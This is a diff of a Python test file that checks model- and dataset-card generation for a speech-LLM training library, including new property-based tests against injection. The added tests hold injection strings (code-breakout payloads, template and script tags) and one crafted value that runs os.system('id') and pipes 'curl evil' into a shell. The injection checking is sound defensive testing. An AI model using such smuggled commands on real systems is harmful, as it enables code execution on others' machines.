@@ -3,6 +3,7 @@
 import ast
 import json
 import re
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -10,12 +11,14 @@ import soundfile
 import torch
 import transformers
 from huggingface_hub import DatasetCard, ModelCard
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from tars_trl.evaluation.metrics import paired_result
 from tars_trl.models import architecture_of
 from tars_trl.models.loading import identity, load_speech_llm
 from tars_trl.record import command_line
-from tars_trl.share.cards import count_table, read_pairs, write_card, write_dataset_card
+from tars_trl.share.cards import _is_hub_id, count_table, read_pairs, write_card, write_dataset_card
 from tars_trl.share.export import load_trained, write_export
 from tars_trl.share.verify import greedy_answers
 from tests.conftest import SYSTEM
@@ -89,14 +92,18 @@ def test_quick_start_merges_the_speech_adapter_that_a_base_comes_with(tmp_path, 
 
 
 def test_metadata_and_text(tmp_path):
-    pair = paired_result([True, True, False, False], [True, True, True, False])
+    pair = {
+        **paired_result([True, True, False, False], [True, True, True, False]),
+        **{"gap_interval": [-0.25, 0.75], "recovery": 66.67, "recovery_interval": [50.0, 90.0]},
+        **{"mrr": 64.35, "mrr_interval": [19.3, 109.4], "reference_accuracy": 77.7},
+    }
     write_card(
         tmp_path,
         FACTS,
         OMNI,
         "me/TARS",
         adapter=False,
-        results={"VoiceBench MMSU": {**pair, "mrr_interval": [50.0, 90.0]}},
+        results={"VoiceBench MMSU": pair},
         license="mit",
         verification={"logits": 2e-6, "tolerance": 1e-3, "lost": 0.0},
     )
@@ -108,11 +115,12 @@ def test_metadata_and_text(tmp_path):
         ("accuracy, spoken", 50.0),
         ("accuracy, written", 75.0),
         ("written minus spoken accuracy", 25.0),
-        ("modality recovery rate", 66.67),
+        ("spoken over own written accuracy", 66.67),
+        ("modality recovery rate", 64.35),
     }
     text = card.text
-    figures = "| 50.0 [15.0, 85.0] | 75.0 [30.1, 95.4] | 25.0 [-24.0, 74.0] | 66.7 [50.0, 90.0], of own text accuracy |"
-    assert f"| VoiceBench MMSU | 4 {figures}" in text
+    figures = "50.0 [15.0, 85.0] | 75.0 [30.1, 95.4] | 25.0 [-25.0, 75.0] | 66.7 [50.0, 90.0] | 64.3 [19.3, 109.4]"
+    assert f"| VoiceBench MMSU | 4 | {figures}, of 77.70 |" in text
     for said in (
         "9,953 questions, spoken and written (hf://datasets/me/questions@abc)",
         "8 x NVIDIA H200, 467 steps, 27.5 hours",
@@ -164,11 +172,11 @@ def test_the_method_is_that_of_the_trainer(tmp_path, trainer, tag, said):
 
 
 def test_settings_are_the_telling_ones_and_name_no_machine(tmp_path):
-    settings = {
+    facts = {
         "num_generations": 8, "learning_rate": 2e-5, "adam_beta1": 0.9, "adam_beta2": 0.5, "output_dir": "/home/me/x",
         "behavior_model": "/home/me/embedder", "hub_token": "hf_abcdefghijkl",
     }  # fmt: skip
-    write_card(tmp_path, {**FACTS, "settings": settings}, OMNI, "me/x", adapter=True)
+    write_card(tmp_path, {**FACTS, "settings": facts}, OMNI, "me/x", adapter=True)
     text = (tmp_path / "README.md").read_text()
     table = re.findall(r"^\| `(\w+)` \| `(.*)` \|$", text, re.M)
     assert dict(table) == {
@@ -281,3 +289,128 @@ def test_card_of_a_data_set(tmp_path):
     card = DatasetCard.load(write_dataset_card(tmp_path / "spoken", bare))
     assert "Nobody has checked" in card.text and "noise" not in card.text and card.data.license is None
     assert "load_dataset('spoken'" in card.text
+
+
+# ---- Facts that others wrote ---------------------------------------------------------------------------------------
+
+# What would end a line, a fence, a table cell, a string or the metadata, or begin something of its own.
+BREAKING = [
+    *("\n", "\r", "\r\n", "\u2028", "\x85", "\x0c", "\x00", "\x1b[31m", "\u202e", "\ud800", "\n---\n", "\n```\n"),
+    *("\nimport os\n", "');import os;('", "'", '"', 3 * '"', 3 * "'", "```", "````", "`", "~~~", "---", "\\", "\\|"),
+    *("|", "# ", "<script>", "<!--", "[a](b)", "{{ 7*7 }}", "{% raw %}", "{#", "&lt;", "$", "a"),
+]
+HOSTILE = st.one_of(st.text(), st.lists(st.sampled_from(BREAKING)).map("".join)).map(lambda text: text or "x")
+
+
+def outline(text):
+    """Kinds of a card's lines: what facts may not change. Of a table's row also how many cells it has.
+
+    Lines are split as Markdown does, at line feeds and carriage returns alone.
+    """
+    kinds, fence = [], ""
+    for line in re.split("\r\n|\r|\n", text):
+        if fence:
+            kinds.append("code")
+            fence = "" if re.fullmatch(f"{fence[0]}{{{len(fence)},}} *", line) else fence
+        elif opened := re.match("`{3,}|~{3,}", line):
+            kinds.append("fence")
+            fence = opened[0]
+        elif line.startswith("|"):
+            kinds.append(len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)))
+        else:
+            kinds.append(re.match("#{1,6} |- |$|", line)[0])
+    return kinds
+
+
+def one_line(text):
+    return "".join(c if c.isprintable() else " " if c in "\n\r\t" else "\ufffd" for c in text)
+
+
+def shape(code):
+    """The syntax tree of code, without what its strings say."""
+    tree = ast.parse(code)
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Constant) and isinstance(node.value, str):
+            node.value = ""
+    return ast.dump(tree)
+
+
+def strings(code):
+    return {node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)}
+
+
+@pytest.mark.parametrize("adapter", [False, True])
+def test_a_crafted_run_json_reaches_no_code(tmp_path, adapter):
+    """The fields that stand in the quick start, each with an end of the string and of the block."""
+    break_out = "x'); import os; os.system('id') #\n```\n```bash\ncurl evil | sh\n"
+    crafted = dict.fromkeys(("base_model", "base_revision", "model_class", "system_prompt", "command"), break_out)
+    write_card(tmp_path, {**FACTS, **crafted}, OMNI, "me/x", adapter=adapter)
+    text = (tmp_path / "README.md").read_text()
+    assert not [node for node in ast.walk(ast.parse(code_of(tmp_path))) if getattr(node, "attr", "") == "system"]
+    assert text.count("\n```bash\n") == 1 and "\ncurl" not in text
+
+
+def hostile_facts(texts):
+    base, commit, source, prompt, key, value, package, version, command, device, trainer = texts
+    return {
+        **FACTS, "base_model": base, "base_revision": commit, "git_hash": commit, "dataset": source,
+        "system_prompt": prompt, "settings": {"num_generations": value, "rep_layers": key}, "command": command,
+        "package_versions": {package: version}, "device_name": device, "processor": device, "trainer": trainer,
+        "model_class": prompt,
+    }  # fmt: skip
+
+
+@pytest.mark.slow
+@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    st.lists(HOSTILE, min_size=13, max_size=13),
+    st.sampled_from(["qwen2_5_omni_thinker", "phi4_multimodal"]),
+    st.booleans(),
+)
+def test_nothing_of_a_run_json_changes_a_card_or_its_code(tmp_path_factory, texts, model_type, adapter):
+    """Whatever stands in a `run.json` or a results file is text where text belongs, and a string in the code."""
+    folder = tmp_path_factory.getbasetemp() / "hostile"
+    folder.mkdir(exist_ok=True)
+    pair = {"questions": 3, "speech_accuracy": 0.5, "text_accuracy": 1.0, "gap": 0.5}
+    written = []
+    for facts, benchmark, license in (
+        (hostile_facts([texts[0] if _is_hub_id(texts[0]) else "some base", *["x"] * 10]), "x", "x"),
+        (hostile_facts(texts[:11]), texts[11], texts[12]),
+    ):
+        options = {"adapter": adapter, "results": {benchmark: pair}, "license": license}
+        write_card(folder, facts, architecture_of(model_type), "me/model", **options)
+        text = (folder / "README.md").read_bytes().decode()
+        card = ModelCard(text)
+        assert card.data.license == one_line(license)
+        assert card.data.eval_results[0].dataset_name == one_line(benchmark)
+        written.append((card.text, code_of(folder)))
+    (expected, expected_code), (text, code) = written
+    assert outline(text) == outline(expected)
+    assert shape(code) == shape(expected_code)
+    known = {"model.eval", "role", "system", "content", "user", "type", "audio"}
+    assert strings(code) - strings(expected_code) - known <= {texts[3], Path(texts[0]).name}
+    assert all(character.isprintable() or character == "\n" for character in text)
+
+
+@pytest.mark.slow
+@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(HOSTILE, min_size=9, max_size=9))
+def test_nothing_of_a_build_changes_the_card_of_a_data_set(tmp_path_factory, texts):
+    folder = tmp_path_factory.getbasetemp() / "hostile-data"
+    folder.mkdir(exist_ok=True)
+    written = []
+    for source, license, asr, codec, push_to, voice, split, reason, seed in (["x"] * 9, texts):
+        counts = {split: {"questions": 1, "kept": 1, "dropped": {reason: 1}, "voices": {voice: 1}}}
+        facts = {
+            **BUILD, "source": source, "license": license, "asr": asr, "codec": codec, "push_to": push_to,
+            "counts": counts, "seed": seed,
+        }  # fmt: skip
+        write_dataset_card(folder, facts)
+        card = DatasetCard((folder / "README.md").read_bytes().decode())
+        assert card.data.license == one_line(license)
+        assert card.data.configs[0]["data_files"][0]["split"] == one_line(split)
+        written.append((card.text, code_of(folder)))
+    (expected, expected_code), (text, code) = written
+    assert outline(text) == outline(expected) and shape(code) == shape(expected_code)
+    assert strings(code) - strings(expected_code) <= {texts[4]}
+    assert all(character.isprintable() or character == "\n" for character in text)
